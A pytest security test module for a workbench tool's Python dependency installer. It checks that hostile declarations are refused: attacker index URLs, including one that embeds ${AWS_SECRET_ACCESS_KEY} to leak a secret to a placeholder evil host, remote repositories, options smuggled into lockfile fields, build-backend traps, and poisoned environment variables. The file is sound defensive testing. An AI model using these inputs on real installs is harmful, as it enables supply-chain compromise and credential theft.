"""Row 1: whatever a function's code declares, installing its packages runs nothing and asks only the index.

Each attack is made end to end: the real uv, a real index of the user's, a real server of the attacker's.
"""

import hashlib
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.bait import (
    BACKEND,
    SECRET,
    SOURCE,
    TOKEN,
    Machine,
    machine,
    publish_python,
    source_archive,
)
from workbench.code.dependencies.declared import find_declaration
from workbench.code.dependencies.requirements import read_requirements
from workbench.code.dependencies.store import Installed
from workbench.code.dependencies.tool_process import npm_environment, uv_environment
from workbench.core.errors import WorkbenchError

Files = dict[str, str | bytes]
PROJECT = '[project]\nname = "fn"\nversion = "0"\nrequires-python = ">=3.12"\n'
UV_LOCK = 'version = 1\nrevision = 3\nrequires-python = ">=3.12"\n'
ROOT = (
    '\n[[package]]\nname = "fn"\nversion = "0"\nsource = { virtual = "." }\n'
    'dependencies = [{ name = "lib" }]\n'
)
POETRY = '[[package]]\nname = "lib"\nversion = "1.0"\n'
BACKENDS = '[build-system]\nrequires = []\nbuild-backend = "trap"\nbackend-path = ["."]\n'
HEX = "0" * 64


@pytest.fixture
def pc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
    with machine(tmp_path, monkeypatch) as made:
        publish_python(tmp_path / "wheels")
        publish_python(tmp_path / "evil-wheels")
        (tmp_path / "outside").mkdir()
        (tmp_path / "outside" / "more.txt").write_text("lib\n")
        source_archive(tmp_path / "wheels", "sourced", made.fill)
        source_archive(tmp_path / "evil-wheels", "sourced", made.fill)
        yield made


def requirements(text: str, **more: str | bytes) -> Files:
    return {"requirements.txt": text, **SOURCE, **more}


def uv_locked(source: str, more: str = "") -> Files:
    """A uv.lock with lib from somewhere."""
    lib = f'\n[[package]]\nname = "lib"\nversion = "1.0"\nsource = {source}\n{more}'
    return {"pyproject.toml": PROJECT + 'dependencies = ["lib"]\n', "uv.lock": UV_LOCK + ROOT + lib, **SOURCE}


def poetry_locked(source: str) -> Files:
    return {
        "poetry.lock": f"{POETRY}files = []\n[package.source]\n{source}\n",
        **SOURCE,
    }


def pipenv_locked(entry: dict[str, object]) -> Files:
    return {"Pipfile.lock": json.dumps({"default": {"lib": entry}}), **SOURCE}


REFUSED: dict[str, tuple[Files, str]] = {
    "no-binary and a path": (requirements("--no-binary x\n./x\n"), "requirements.txt, line 1: --no-binary"),
    "no-binary for all": (requirements("--no-binary=:all:\nsourced\n"), "line 1: --no-binary"),
    "no-binary behind a package": (requirements("lib --no-binary lib\n"), "line 1: --no-binary"),
    "only-binary lifted": (requirements("lib\n--only-binary :none:\nsourced\n"), "line 2: --only-binary"),
    "an index with a secret": (
        requirements("--index-url @EVIL@/${AWS_SECRET_ACCESS_KEY}/simple\nlib\n"),
        "line 1",
    ),
    "an index": (requirements("# mine\n--index-url @EVIL@/simple\nlib\n"), "line 2: --index-url"),
    "an index, short": (requirements("-i @EVIL@/simple\nlib\n"), "line 1: -i"),
    "an index, short and joined": (requirements("-i@EVIL@/simple\nlib\n"), "line 1: -i"),
    "an index, with an equals sign": (
        requirements("--index-url=@EVIL@/simple\nlib\n"),
        "line 1: --index-url",
    ),
    "an index, shortened": (
        requirements("--index @EVIL@/simple\nlib\n"),
        "line 1: --index: the option is not supported",
    ),
    "an index over two lines": (requirements("lib\n--index-\\\nurl @EVIL@/simple\n"), "line 2: --index-url"),
    "an index in quotes": (requirements('"--index-url" @EVIL@/simple\nlib\n'), "line 1"),
    "another index": (
        requirements("lib\n\n\n--extra-index-url @EVIL@/simple\n"),
        "line 4: --extra-index-url",
    ),
    "no index": (requirements("--no-index\nlib\n"), "line 1: --no-index"),
    "an index in an included file": (
        requirements("-r more/in.txt\n", **{"more/in.txt": "lib\n-i @EVIL@/simple\n"}),
        "more/in.txt, line 2: -i",
    ),
    "an index in a constraints file": (
        requirements("lib\n-c c.txt\n", **{"c.txt": "--extra-index-url @EVIL@/simple\n"}),
        "c.txt, line 1: --extra-index-url",
    ),
    "find-links": (requirements("--find-links @EVIL@/wheels/\nlib\n"), "line 1: --find-links"),
    "find-links, short": (requirements("-f x\nlib\n"), "line 1: -f"),
    "a trusted host": (requirements("--trusted-host @EVILHOST@\nlib\n"), "line 1: --trusted-host"),
    "a path": (requirements("./x\n"), "line 1: it takes a package from a file or folder"),
    "a path without a dot": (requirements("x/\n"), "line 1: it takes a package from a file or folder"),
    "a path above": (requirements("../code/x\n"), "line 1: it takes a package from a file or folder"),
    "an absolute path": (requirements("@OUTSIDE@\n"), "line 1: it takes a package from a file or folder"),
    "a file address": (
        requirements("file://@OUTSIDE@\n"),
        "line 1: it takes a package from a file or folder",
    ),
    "a named path": (
        requirements("x @ file://@OUTSIDE@\n"),
        "line 1: it takes a package from a file or folder",
    ),
    "a named path in the code": (requirements("x @ ./x\n"), "line 1"),
    "a wheel in the code": (
        requirements("lib-1.0-py3-none-any.whl\n"),
        "line 1: it takes a package from a file",
    ),
    "an archive's address": (
        requirements("@EVIL@/wheels/sourced-1.0.tar.gz\n"),
        "line 1: it takes a package from a URL",
    ),
    "a named address": (requirements("sourced @ @EVIL@/wheels/sourced-1.0.tar.gz\n"), "from a URL"),
    "a named address with a marker": (
        requirements("lib @ @EVIL@/wheels/lib-1.0-py3-none-any.whl ; python_version > '3'\n"),
        "from a URL",
    ),
    "a repository": (
        requirements("git+@EVIL@/lib.git#egg=lib\n"),
        "line 1: it takes a package from a repository",
    ),
    "a named repository": (requirements("lib @ git+@EVIL@/lib.git@main\n"), "from a repository"),
    "a repository by ssh": (requirements("git+ssh://git@@EVILHOST@/lib.git\n"), "from a repository"),
    "a repository of another kind": (requirements("hg+@EVIL@/lib#egg=lib\n"), "from a repository"),
    "an editable folder": (requirements("-e ./x\n"), "line 1: -e"),
    "an editable folder, joined": (requirements("-e./x\n"), "line 1: -e"),
    "an editable folder, long": (requirements("--editable=./x\n"), "line 1: --editable"),
    "an editable repository": (requirements("-e git+@EVIL@/x.git#egg=x\n"), "line 1: -e"),
    "a variable as a name": (requirements("${AWS_SECRET_ACCESS_KEY}\n"), "uses the value of a variable"),
    "a variable as a version": (
        requirements("lib==${AWS_SECRET_ACCESS_KEY}\n"),
        "uses the value of a variable",
    ),
    "a variable in a marker": (
        requirements("lib ; sys_platform != '${GITHUB_TOKEN}'\n"),
        "uses the value of a variable",
    ),
    "an included file above": (
        requirements("-r ../outside/more.txt\n"),
        "line 1: ../outside/more.txt is outside",
    ),
    "an included file above, hidden": (requirements("-r more/../../outside/more.txt\n"), "is outside"),
    "an included file by its whole path": (requirements("-r @OUTSIDE@/more.txt\n"), "is outside"),
    "an included address": (requirements("-r @EVIL@/simple/lib\n"), "is outside"),
    "an included file address": (requirements("-rfile://@OUTSIDE@/more.txt\n"), "is outside"),
    "constraints above": (
        requirements("lib\n-c ../outside/more.txt\n"),
        "line 2: ../outside/more.txt is outside",
    ),
    "settings of a build": (requirements("lib --config-settings=a=b\n"), "line 1: --config-settings"),
    "options of a build": (requirements('lib --global-option="build_ext"\n'), "line 1: --global-option"),
    "an option that nobody knows": (requirements("--build-dir x\nlib\n"), "line 1: --build-dir"),
    "a weak hash": (requirements("lib==1.0 --hash=md5:d41d8cd98f00b204e9800998ecf8427e\n"), "line 1: “md5:"),
    "quotes that do not end": (requirements("lib --hash='sha256:\n"), "line 1: its quotation marks"),
    "a hidden line": (
        requirements("lib ; python_version > '3' \\\n--index-url @EVIL@/simple\n"),
        "line 1: --index-url",
    ),
    "UTF-16 with an index": (
        {"requirements.txt": "--index-url @EVIL@/simple\nlib\n".encode("utf-16"), **SOURCE},
        "line 1: --index-url",
    ),
    "UTF-7 that hides an index": (
        requirements("# coding: utf-7\n+AC0ALQ-index-url @EVIL@/simple\nlib\n"),
        "“utf-7” is not a supported encoding",
    ),
    "a line of binary": (
        {"requirements.txt": b"lib\n\xff\xfe\x00\n", **SOURCE},
        "requirements.txt, line 2: it is not UTF-8",
    ),
    "a NUL": ({"requirements.txt": b"lib\n\x00--index-url x\n", **SOURCE}, "line 2"),
    "an arbitrary version with a path": (requirements("lib===../../x\n"), "line 1"),
    "a marker with no end": (requirements(f"lib ; {'(' * 3_000}\n"), "line 1"),
    "more requirements than anybody has": (
        requirements("lib\n" * 5_001),
        "line 5001: there are more than 5,000",
    ),
    "pyproject: a named address": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib @ @EVIL@/wheels/lib-1.0-py3-none-any.whl"]\n'},
        "pyproject.toml, line 5",
    ),
    "pyproject: a repository": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib @ git+@EVIL@/lib.git"]\n'},
        "from a repository",
    ),
    "pyproject: an index": (
        {
            "pyproject.toml": PROJECT
            + 'dependencies = ["lib"]\n[[tool.uv.index]]\nurl = "@EVIL@/simple"\ndefault = true\n'
        },
        "sets index",
    ),
    "pyproject: an index of pip": (
        {"pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.pip]\nindex-url = "@EVIL@/simple"\n'},
        "sets index-url",
    ),
    "pyproject: no binary": (
        {"pyproject.toml": PROJECT + 'dependencies = ["sourced"]\n[tool.uv.pip]\nno-binary = [":all:"]\n'},
        "sets no-binary",
    ),
    "pyproject: a source": (
        {
            "pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "x" }\n',
            **SOURCE,
        },
        "takes lib from another source",
    ),
    "pyproject: built to know": (
        {
            "pyproject.toml": PROJECT + 'dynamic = ["dependencies"]\ndependencies = ["lib"]\n' + BACKENDS,
            "trap.py": BACKEND,
        },
        "dynamic",
    ),
    "uv.lock: a repository": (
        uv_locked('{ git = "@EVIL@/lib.git?rev=main#0123456789012345678901234567890123456789" }'),
        "uv.lock, line 12: lib comes from another source (git)",
    ),
    "uv.lock: an address": (
        uv_locked('{ url = "@EVIL@/wheels/sourced-1.0.tar.gz" }', f'sdist = {{ hash = "sha256:{HEX}" }}\n'),
        "(url)",
    ),
    "uv.lock: a folder": (uv_locked('{ directory = "x" }'), "(directory)"),
    "uv.lock: an editable folder": (uv_locked('{ editable = "x" }'), "(editable)"),
    "uv.lock: a file": (uv_locked('{ path = "x.whl" }'), "(path)"),
    "uv.lock: another project": (uv_locked('{ virtual = "x" }'), "(virtual)"),
    "poetry.lock: a repository": (
        poetry_locked('type = "git"\nurl = "@EVIL@/lib.git"\nreference = "main"'),
        "poetry.lock, line 2: lib comes from another source",
    ),
    "poetry.lock: a folder": (
        poetry_locked('type = "directory"\nurl = "x"'),
        "lib comes from another source",
    ),
    "poetry.lock: an address": (
        poetry_locked('type = "url"\nurl = "@EVIL@/lib.whl"'),
        "lib comes from another source",
    ),
    "poetry.lock: a name with a line": (
        {"poetry.lock": '[[package]]\nname = "lib\\n--index-url @EVIL@/simple"\nversion = "1"\n'},
        "poetry.lock is malformed",
    ),
    "poetry.lock: a version with an option": (
        {"poetry.lock": '[[package]]\nname = "lib"\nversion = "1 --index-url @EVIL@/simple"\n'},
        "poetry.lock is malformed",
    ),
    "Pipfile.lock: a repository": (
        pipenv_locked({"git": "@EVIL@/lib.git", "ref": "main"}),
        "Pipfile.lock, line 1: lib comes from another source",
    ),
    "Pipfile.lock: a version and a repository": (
        pipenv_locked({"version": "==1.0", "git": "@EVIL@/lib.git"}),
        "lib comes from another source",
    ),
    "Pipfile.lock: a folder": (
        pipenv_locked({"path": "./x", "editable": True}),
        "lib comes from another source",
    ),
    "Pipfile.lock: a marker with a line": (
        pipenv_locked({"version": "==1.0", "markers": "python_version > '3'\n--index-url @EVIL@/simple"}),
        "Pipfile.lock",
    ),
    "only a source in the index": (requirements("sourced\n"), "sourced"),
    "a package that asks for an address": (requirements("sneaky\n"), ""),
    "a package that asks for a repository": (requirements("cloner\n"), ""),
}
"""Declarations that are refused, and words of the refusal."""


@pytest.mark.parametrize("name", REFUSED)
def test_a_hostile_declaration_is_refused_with_its_line(pc: Machine, name: str) -> None:
    files, words = REFUSED[name]
    pc.write(files)
    refusal = pc.install("python3.12")
    assert pc.harm() == []
    assert isinstance(refusal, WorkbenchError)
    assert words in refusal.why
    assert SECRET not in str(refusal)
    assert not list(pc.folder.glob("store/*"))


def test_a_link_to_a_file_outside_is_not_included(pc: Machine) -> None:
    pc.write(requirements("-r in.txt\n"))
    (pc.code / "in.txt").symlink_to(pc.folder / "outside" / "more.txt")
    refusal = pc.install("python3.12")
    assert isinstance(refusal, WorkbenchError)
    assert "in.txt" in refusal.why


IGNORED: dict[str, Files] = {
    "a uv.toml": {"uv.toml": 'index-url = "@EVIL@/simple"\n'},
    "a uv.toml that builds": {"uv.toml": '[pip]\nno-binary = [":all:"]\nonly-binary = []\n'},
    "an index in a pyproject.toml beside": {
        "pyproject.toml": '[[tool.uv.index]]\nurl = "@EVIL@/simple"\ndefault = true\n'
    },
    "settings of pip": {"pip.conf": "[global]\nindex-url = @EVIL@/simple\n"},
    "an environment": {".env": "UV_DEFAULT_INDEX=@EVIL@/simple\n", ".venv/pyvenv.cfg": "home = /nowhere\n"},
    "a version of Python": {".python-version": "@EVIL@/python.tar.gz\n"},
    "modules that Python loads": {
        "sitecustomize.py": BACKEND,
        "usercustomize.py": BACKEND,
        "encodings.py": BACKEND,
        "platform.py": BACKEND,
    },
    "a folder of the package's name": {
        "lib/setup.py": BACKEND,
        "lib/pyproject.toml": SOURCE["x/pyproject.toml"],
        "lib/trap.py": BACKEND,
    },
}
"""Files beside an ordinary declaration that no tool sees."""


@pytest.mark.parametrize("name", IGNORED)
def test_files_beside_a_declaration_choose_nothing(pc: Machine, name: str) -> None:
    pc.write({"requirements.txt": "lib==1.0\n", **IGNORED[name]})
    installed = pc.install("python3.12")
    assert pc.harm() == []
    assert isinstance(installed, Installed)
    assert installed.found.packages == (("lib", "1.0"),)


def wheel_hash(pc: Machine) -> str:
    return hashlib.sha256((pc.folder / "wheels" / "lib-1.0-py3-none-any.whl").read_bytes()).hexdigest()


LIB, LIB2, BASE, FANCY = ("lib", "1.0"), ("lib", "2.0"), ("base", "1.0"), ("fancy", "1.0")
ORDINARY: dict[str, tuple[Files, tuple[tuple[str, str], ...]]] = {
    "a name": (requirements("lib\n"), (LIB2,)),
    "a pin": (requirements("lib==1.0\n"), (LIB,)),
    "ranges and blanks": (requirements("  lib >= 1.0 , < 2.0  \n"), (LIB,)),
    "a hash": (requirements("lib==1.0 --hash=sha256:@HASH@\n"), (LIB,)),
    "hashes over lines": (
        requirements(f"lib==1.0 \\\n    --hash=sha256:{HEX} \\\n    --hash=sha256:@HASH@\n"),
        (LIB,),
    ),
    "hashes that all need": (requirements("--require-hashes\nlib==1.0 --hash sha256:@HASH@\n"), (LIB,)),
    "an extra": (requirements("fancy[more]\n"), (BASE, FANCY, LIB2)),
    "markers": (
        requirements("lib==1.0 ; sys_platform == 'linux'\nbase; sys_platform == \"win32\"\n"),
        (LIB,),
    ),
    "a file in the code": (
        requirements(
            "-r more/in.txt\n", **{"more/in.txt": "-r ../base.txt\nlib==1.0\n", "base.txt": "base\n"}
        ),
        (BASE, LIB),
    ),
    "files in a circle": (
        requirements("-r a.txt\nlib==1.0\n", **{"a.txt": "-r requirements.txt\nbase\n"}),
        (BASE, LIB),
    ),
    "constraints": (
        requirements("fancy\n-c limits.txt\n", **{"limits.txt": "lib<2\nbase==1.0\n"}),
        (FANCY, LIB),
    ),
    "comments": (requirements("# all\nlib==1.0 # this one\n   # and no \\\nbase\n"), (BASE, LIB)),
    "a line that goes on": (requirements("lib\\\n==\\\n1.0\n"), (LIB,)),
    "lines of Windows": (requirements("lib==1.0\r\nbase\r\n"), (BASE, LIB)),
    "a byte order mark": ({"requirements.txt": b"\xef\xbb\xbflib==1.0\n"}, (LIB,)),
    "UTF-16": ({"requirements.txt": "lib==1.0\n".encode("utf-16")}, (LIB,)),
    "Latin-1 that says so": (
        {"requirements.txt": "# -*- coding: latin-1 -*-\n# für\nlib==1.0\n".encode("latin-1")},
        (LIB,),
    ),
    "versions before a release": (requirements("--pre\nlib==1.0\n"), (LIB,)),
    "a version of any form": (requirements("lib===1.0\n"), (LIB,)),
    "a compatible version": (requirements("lib~=1.0\n"), (LIB,)),
    "a pyproject.toml": (
        {
            "pyproject.toml": PROJECT
            + 'dependencies = ["fancy"]\n[tool.uv]\nconstraint-dependencies = ["lib<2"]\n'
        },
        (FANCY, LIB),
    ),
    "a uv.lock": (
        uv_locked(
            '{ registry = "@INDEX@/simple/" }',
            'wheels = [{ url = "@INDEX@/wheels/lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@" }]\n',
        ),
        (LIB,),
    ),
    "a uv.lock of another index": (
        uv_locked(
            '{ registry = "@EVIL@/simple/" }',
            'wheels = [{ url = "@EVIL@/wheels/lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@" }]\n',
        ),
        (LIB,),
    ),
    "a poetry.lock of another index": (
        {
            "poetry.lock": POETRY
            + 'files = [{file = "lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@"}]\n[package.source]\n'
            + 'type = "legacy"\nurl = "@EVIL@/simple"\nreference = "x"\n'
        },
        (LIB,),
    ),
    "a Pipfile.lock of another index": (
        {
            "Pipfile.lock": json.dumps(
                {
                    "_meta": {"sources": [{"name": "x", "url": "@EVIL@/simple"}]},
                    "default": {"lib": {"version": "==1.0", "index": "x", "hashes": ["sha256:@HASH@"]}},
                }
            )
        },
        (LIB,),
    ),
}
"""Declarations that install, and what comes of them."""


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_declaration_installs_from_the_users_index(pc: Machine, name: str) -> None:
    files, packages = ORDINARY[name]
    digest = wheel_hash(pc)
    pc.write(
        {
            path: text.replace("@HASH@", digest) if isinstance(text, str) else text
            for path, text in files.items()
        }
    )
    installed = pc.install("python3.12")
    assert isinstance(installed, Installed), installed
    assert installed.found.packages == packages
    assert pc.harm() == []
    assert pc.index.requests


def test_the_users_own_settings_choose_the_index_and_no_build(pc: Machine) -> None:
    settings = pc.folder / "home" / ".config" / "uv" / "uv.toml"
    settings.write_text(
        f'index-url = "{pc.index.simple}"\nno-binary-package = ["sourced"]\n[pip]\nno-binary = ["sourced"]\n'
    )
    pc.write({"requirements.txt": "lib==1.0\n"})
    installed = pc.install("python3.12")
    assert isinstance(installed, Installed), installed
    assert any(each.startswith("/simple/lib") for each in pc.index.requests)
    pc.write(
        {"requirements.txt": "sourced\n"}
    )  # not even the user's settings have something built that a stranger names
    assert isinstance(pc.install("python3.12"), WorkbenchError)
    assert pc.harm() == []


def test_what_tools_get_holds_no_secret_of_the_user(pc: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in (
        "PYTHONPATH",
        "NODE_OPTIONS",
        "LD_PRELOAD",
        "UV_OVERRIDE",
        "npm_config_script_shell",
        "npm_config_git",
    ):
        monkeypatch.setenv(name, "/evil")
    (pc.folder / "home" / ".npmrc").write_text(
        "//registry.example/:_authToken=${OWN_TOKEN}\nx=${AWS_SECRET_ACCESS_KEY}\n"
    )
    monkeypatch.setenv("OWN_TOKEN", "mine")
    for environment in (uv_environment(), npm_environment()):
        assert SECRET not in environment.values()
        assert TOKEN not in environment.values()
        assert "/evil" not in environment.values()
        assert not [name for name in environment if name.startswith("AWS_")]
    assert npm_environment()["OWN_TOKEN"] == "mine"  # the user's own settings of npm name it
    assert "OWN_TOKEN" not in uv_environment()


LARGE = {
    "hashes": "".join(
        f"lib==1.{n} \\\n" + f"    --hash=sha256:{HEX} \\\n" * 60 + f"    --hash=sha256:{HEX}\n"
        for n in range(200)
    ),
    "comments": "# nothing\n" * 100_000,
    "blanks": "lib " + " " * (1 << 20) + "# end\n",
    "continuations": "lib" + "\\\n" * 300_000 + "==1.0\n",
    "brackets": "lib" + "[" * (1 << 20) + "\n",
    "number signs": "lib " + "x#" * (1 << 19) + "\n",
    "dashes": "lib " + "--hash " * 150_000 + "\n",
    "quotes": "lib --hash=" + "'" * (1 << 20) + "\n",
    "names": "\n".join(f"lib{n}" for n in range(120_000)),
    "includes": "-r in.txt\n" * 100_000,
}


@pytest.mark.parametrize("name", LARGE)
def test_a_file_of_a_megabyte_is_read_or_refused_at_once(name: str) -> None:
    data = LARGE[name].encode()
    assert len(data) > 600_000
    start = time.process_time()
    refusal = None
    try:
        read_requirements({"requirements.txt": data, "in.txt": b"lib\n"}, "requirements.txt")
    except WorkbenchError as error:
        refusal = error
    assert refusal is None or "line " in refusal.why
    assert time.process_time() - start < 3


def test_what_was_agreed_to_is_what_is_installed(pc: Machine) -> None:
    """The files change between the question and the installation."""
    pc.write({"requirements.txt": "lib==1.0\n"})
    declared = find_declaration(pc.code, "python")
    assert declared is not None
    pc.write({"requirements.txt": "--index-url @EVIL@/simple\nbase\n"})
    from workbench.code.dependencies.store import Target
    from workbench.code.dependencies.use import install
    from workbench.core.jobs import JobContext

    installed = install(declared, Target("python3.12"), pc.store, JobContext())
    assert installed.found.packages == (LIB,)
    assert pc.harm() == []
